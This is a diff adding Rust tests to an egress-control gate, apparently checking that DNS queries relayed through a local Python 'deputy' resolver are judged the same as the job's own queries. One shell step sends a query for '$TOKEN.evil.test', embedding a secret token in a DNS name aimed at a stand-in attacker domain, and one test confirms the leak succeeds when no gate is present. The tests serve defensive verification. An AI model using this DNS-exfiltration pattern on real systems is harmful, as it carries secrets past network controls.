@@ -6,7 +6,9 @@ use portcullis_tests::evidence::{Actor, Call, NO_RULE, Question};
 use portcullis_tests::gate::{Gate, POLICY, policy, root_step, step};
 use portcullis_tests::world::MonitorOptions;
 use portcullis_tests::{JobOutcome, World};
+use std::io::{BufRead, BufReader};
 use std::net::IpAddr;
+use std::process::Stdio;
 
 /// D9: the name, the type that is asked, and an address that must be named as withheld.
 const SPECIAL: &[(&str, &str, &str)] = &[
@@ -306,6 +308,81 @@ fn a_dead_resolver_and_one_in_its_place_open_nothing() -> Result<()> {
         "the gap is not in the posture"
     );
     Ok(())
+}
+
+/// Resolves what it is asked for on a Unix socket, in the group of a service and as another user than the job's, with the
+/// network's own server: as systemd-resolved does by D-Bus, and nscd.
+const DEPUTY: &str = r#"
+import os, socket, struct, sys
+listener = socket.socket(socket.AF_UNIX)
+listener.bind(sys.argv[1])
+os.chmod(sys.argv[1], 0o777)
+listener.listen()
+print("listening", flush=True)
+while True:
+    client = listener.accept()[0]
+    name = client.recv(512).decode()
+    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
+    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)
+    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    server.settimeout(3)
+    server.sendto(query, (sys.argv[2], 53))
+    try:
+        answer = server.recv(4096)
+        client.sendall(b"code %d, %d answers" % (answer[3] & 15, struct.unpack("!H", answer[6:8])[0]))
+    except OSError as error:
+        client.sendall(str(error).encode())
+    client.close()
+"#;
+
+/// Asks the deputy.
+const ASK: &str = r#"ask() { python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.sendall(sys.argv[2].encode()); print(sys.argv[2], s.recv(512).decode())' "$DEPUTY" "$1"; }
+ask ok.test; ask "$TOKEN.evil.test"; ask evil.test
+"#;
+
+/// Starts the deputy, and runs the job that asks it.
+fn ask_a_deputy(gate: &Gate) -> Result<portcullis_tests::JobResult> {
+    let world = gate.world();
+    let (_, group) = world.create_unit("deputy")?;
+    let socket = world.directory().join("deputy.sock");
+    let server = portcullis_tests::world::network::DNS_V4.to_string();
+    let mut deputy = world
+        .command("python3")
+        .args(["-c", DEPUTY, &socket.display().to_string(), &server])
+        .cgroup(&group)
+        .spawn(Stdio::null(), Stdio::piped(), Stdio::null())?;
+    let output = deputy.child().stdout.take().context("no output")?;
+    BufReader::new(output).read_line(&mut String::new())?;
+    let mut job = gate.job().env("DEPUTY", &socket.display().to_string());
+    job.steps = vec![step("ask", ASK)];
+    let result = gate.begin(&job)?.wait()?;
+    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
+    ensure!(result.log().contains("ok.test code 0, "), "{}", result.log());
+    Ok(result)
+}
+
+/// D11: in scope host a deputy's questions are judged as the job's are.
+#[test]
+fn a_deputy_resolves_no_more_than_the_job_may() -> Result<()> {
+    let gate = Gate::up(&policy("block", &["ok.test:443"]))?;
+    let result = ask_a_deputy(&gate)?;
+    ensure!(!result.log().contains("evil.test code 0"), "{}", result.log());
+    let events = gate.final_events()?;
+    let blocked = events.iter().filter(|event| match &event.kind {
+        EventKind::Dns(query) => {
+            query.name.ends_with("evil.test") && query.verdict == Verdict::Blocked
+        }
+        _ => false,
+    });
+    ensure!(blocked.count() == 2, "{events:?}");
+    gate.assert_contained()
+}
+
+#[test]
+fn without_a_gate_a_deputy_carries_the_secret_out() -> Result<()> {
+    let gate = Gate::without(World::builder())?;
+    ask_a_deputy(&gate)?;
+    gate.assert_leaked()
 }
 
 #[test]
